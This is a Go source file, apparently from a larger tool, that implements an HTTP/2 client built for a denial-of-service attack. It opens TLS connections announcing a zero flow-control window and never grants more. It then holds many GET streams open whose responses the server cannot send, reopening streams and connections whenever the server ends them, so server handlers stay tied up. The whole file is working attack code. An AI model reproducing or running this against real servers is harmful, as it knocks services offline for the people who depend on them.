package main

import (
	"bufio"
	"bytes"
	"context"
	"encoding/binary"
	"errors"
	"fmt"
	"io"
	"net"
	"sync"
	"time"

	"golang.org/x/net/http2/hpack"
)

// h2conn is the least of an HTTP/2 client an attack needs: it opens streams
// with a HEADERS frame and cancels them with RST_STREAM, acknowledges the
// server's SETTINGS and PINGs, and never sends WINDOW_UPDATE. It announces
// an initial stream window of zero, so the server can send no response body
// at all: each request's handler blocks on its first write until the
// server's WriteTimeout, or until the stream is cancelled.
type h2conn struct {
	c  net.Conn
	br *bufio.Reader

	mu   sync.Mutex // guards writes to c, enc, hbuf and next
	enc  *hpack.Encoder
	hbuf bytes.Buffer
	next uint32 // the next stream ID
}

// HTTP/2 frame types and flags (RFC 9113, section 6).
const (
	h2Data       = 0x0
	h2Headers    = 0x1
	h2RSTStream  = 0x3
	h2Settings   = 0x4
	h2Ping       = 0x6
	h2GoAway     = 0x7
	h2EndStream  = 0x1 // DATA, HEADERS
	h2EndHeaders = 0x4 // HEADERS
	h2Ack        = 0x1 // SETTINGS, PING

	h2SettingEnablePush        = 0x2
	h2SettingInitialWindowSize = 0x4
	h2Cancel                   = 0x8 // RST_STREAM's error code

	h2Preface  = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
	h2MaxFrame = 1 << 20 // the most this client reads in a frame; servers send 16 KiB by default
)

// dialH2 connects to addr and starts an HTTP/2 connection with a zero
// initial window.
func dialH2(ctx context.Context, from *sources, addr string) (*h2conn, error) {
	c, err := dialTLS(ctx, from, addr, "h2")
	if err != nil {
		return nil, err
	}
	if p := c.ConnectionState().NegotiatedProtocol; p != "h2" {
		c.Close()
		return nil, fmt.Errorf("the server chose protocol %q, not h2", p)
	}
	h := &h2conn{c: c, br: bufio.NewReader(c), next: 1}
	h.enc = hpack.NewEncoder(&h.hbuf)
	var settings []byte
	settings = binary.BigEndian.AppendUint16(settings, h2SettingInitialWindowSize)
	settings = binary.BigEndian.AppendUint32(settings, 0)
	settings = binary.BigEndian.AppendUint16(settings, h2SettingEnablePush)
	settings = binary.BigEndian.AppendUint32(settings, 0)
	h.mu.Lock()
	defer h.mu.Unlock()
	if _, err := io.WriteString(c, h2Preface); err != nil {
		c.Close()
		return nil, err
	}
	if err := h.writeFrameLocked(h2Settings, 0, 0, settings); err != nil {
		c.Close()
		return nil, err
	}
	return h, nil
}

// writeFrameLocked writes one frame; h.mu must be held.
func (h *h2conn) writeFrameLocked(typ, flags byte, stream uint32, payload []byte) error {
	hdr := make([]byte, 9, 9+len(payload))
	hdr[0], hdr[1], hdr[2] = byte(len(payload)>>16), byte(len(payload)>>8), byte(len(payload))
	hdr[3], hdr[4] = typ, flags
	binary.BigEndian.PutUint32(hdr[5:], stream)
	_, err := h.c.Write(append(hdr, payload...))
	return err
}

// get opens a stream requesting path, and returns its ID.
func (h *h2conn) get(path string) (uint32, error) {
	h.mu.Lock()
	defer h.mu.Unlock()
	h.hbuf.Reset()
	for _, f := range []hpack.HeaderField{
		{Name: ":method", Value: "GET"},
		{Name: ":scheme", Value: "https"},
		{Name: ":authority", Value: serverName},
		{Name: ":path", Value: path},
	} {
		h.enc.WriteField(f)
	}
	id := h.next
	h.next += 2
	return id, h.writeFrameLocked(h2Headers, h2EndStream|h2EndHeaders, id, h.hbuf.Bytes())
}

// cancel resets stream id.
func (h *h2conn) cancel(id uint32) error {
	h.mu.Lock()
	defer h.mu.Unlock()
	return h.writeFrameLocked(h2RSTStream, 0, id, binary.BigEndian.AppendUint32(nil, h2Cancel))
}

// serve reads frames until the connection ends, answers the server's
// SETTINGS and PINGs, and calls ended with the ID of each stream the server
// ends, by END_STREAM or RST_STREAM.
func (h *h2conn) serve(ended func(id uint32)) error {
	for {
		typ, flags, stream, payload, err := readH2Frame(h.br)
		if err != nil {
			return err
		}
		switch {
		case typ == h2Settings && flags&h2Ack == 0:
			h.mu.Lock()
			err = h.writeFrameLocked(h2Settings, h2Ack, 0, nil)
			h.mu.Unlock()
		case typ == h2Ping && flags&h2Ack == 0:
			h.mu.Lock()
			err = h.writeFrameLocked(h2Ping, h2Ack, 0, payload)
			h.mu.Unlock()
		case typ == h2RSTStream, (typ == h2Headers || typ == h2Data) && flags&h2EndStream != 0:
			ended(stream)
		case typ == h2GoAway:
			return errors.New("the server sent GOAWAY")
		}
		if err != nil {
			return err
		}
	}
}

// readH2Frame reads one frame.
func readH2Frame(r io.Reader) (typ, flags byte, stream uint32, payload []byte, err error) {
	var hdr [9]byte
	if _, err := io.ReadFull(r, hdr[:]); err != nil {
		return 0, 0, 0, nil, err
	}
	n := int(hdr[0])<<16 | int(hdr[1])<<8 | int(hdr[2])
	if n > h2MaxFrame {
		return 0, 0, 0, nil, fmt.Errorf("a frame of %d bytes", n)
	}
	payload = make([]byte, n)
	if _, err := io.ReadFull(r, payload); err != nil {
		return 0, 0, 0, nil, err
	}
	return hdr[3], hdr[4], binary.BigEndian.Uint32(hdr[5:]) & 0x7fffffff, payload, nil
}

// h2Holders keeps conns HTTP/2 connections to addr open until ctx is done,
// each with streams requests for path whose responses the server can never
// send, and opens a new stream whenever the server ends one (its
// WriteTimeout), and a new connection whenever it closes one.
func h2Holders(ctx context.Context, addr string, from *sources, conns, streams int, path string, t *tally) {
	ramp := make(chan struct{}, rampUp)
	workers(ctx, conns, func(ctx context.Context) {
		for ctx.Err() == nil {
			ramp <- struct{}{}
			h, err := dialH2(ctx, from, addr)
			<-ramp
			if err != nil {
				if ctx.Err() == nil {
					t.failed("connect", err)
					pause(ctx, 100*time.Millisecond)
				}
				continue
			}
			holdH2(ctx, h, streams, path, t)
		}
	})
}

// holdH2 keeps streams requests open on h until the server or ctx closes it.
func holdH2(ctx context.Context, h *h2conn, streams int, path string, t *tally) {
	stop := closeWith(ctx, h.c)
	defer stop()
	ended := make(chan uint32, 4*streams)
	done := make(chan error, 1)
	go func() {
		done <- h.serve(func(id uint32) {
			select {
			case ended <- id:
			default: // more than were open: the server's business, not ours
			}
		})
	}()
	defer func() {
		h.c.Close()
		<-done
	}()
	for range streams {
		if _, err := h.get(path); err != nil {
			return
		}
		t.sent.Add(1)
	}
	for {
		select {
		case <-ended:
			if ctx.Err() != nil {
				return
			}
			t.cut.Add(1)
			if _, err := h.get(path); err != nil {
				return
			}
			t.sent.Add(1)
		case err := <-done:
			done <- err // for the deferred wait
			if ctx.Err() == nil {
				t.failed("connection", err)
			}
			return
		}
	}
}
